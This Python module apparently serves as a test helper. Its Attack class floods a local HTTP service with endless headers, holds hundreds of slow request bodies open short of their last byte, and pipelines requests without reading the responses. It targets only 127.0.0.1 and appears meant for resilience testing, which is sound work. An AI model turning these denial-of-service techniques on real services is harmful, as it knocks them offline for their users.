"""What one client can do to a service that does not limit it, all at the same time."""

import contextlib
import socket
import threading
from collections.abc import Callable, Iterator

SLOW_BODIES = 600
BODY = 990_000  # bytes, of which the last is never sent
HEADERS = 40_000_000  # bytes
HEAD = "POST {path} HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"


class Attack:
    """Sends endless headers, slow bodies, and requests whose responses it does not read.

    Args:
        port: of the service, on this machine.
        path: that takes a body.
    """

    def __init__(self, port: int, path: str) -> None:
        self._port = port
        self._head = HEAD.format(path=path).encode()
        self._ended = threading.Event()

    @contextlib.contextmanager
    def running(self) -> Iterator[None]:
        """Attack until the end of the block."""
        ways: list[Callable[[], None]] = [self._send_headers, self._send_bodies, self._pipeline]
        threads = [threading.Thread(target=way) for way in ways]
        for thread in threads:
            thread.start()
        try:
            yield
        finally:
            self._ended.set()
            for thread in threads:
                thread.join()

    def _connect(self) -> socket.socket:
        client = socket.create_connection(("127.0.0.1", self._port), timeout=5)
        client.settimeout(0.5)
        return client

    def _send_headers(self) -> None:
        """Send headers without end, again and again."""
        while not self._ended.is_set():
            with contextlib.suppress(OSError), self._connect() as client:
                client.sendall(self._head)
                for _ in range(HEADERS // 60_000):
                    client.sendall(b"A: b\r\n" * 10_000)

    def _send_bodies(self) -> None:
        """Send many bodies at a time, each but for its last byte."""
        with contextlib.ExitStack() as stack:
            for _ in range(SLOW_BODIES):
                if self._ended.is_set():
                    return
                with contextlib.suppress(OSError):
                    client = stack.enter_context(self._connect())
                    client.sendall(self._head + b"Content-Length: %d\r\n\r\n" % BODY)
                    client.sendall(b"x" * (BODY - 1))
            self._ended.wait()

    def _pipeline(self) -> None:
        """Send requests for a long response, and read none."""
        requests = b"GET /openapi.json HTTP/1.1\r\nHost: a\r\n\r\n" * 2_000
        while not self._ended.is_set():
            with contextlib.suppress(OSError), self._connect() as client:
                while not self._ended.is_set():
                    client.sendall(requests)
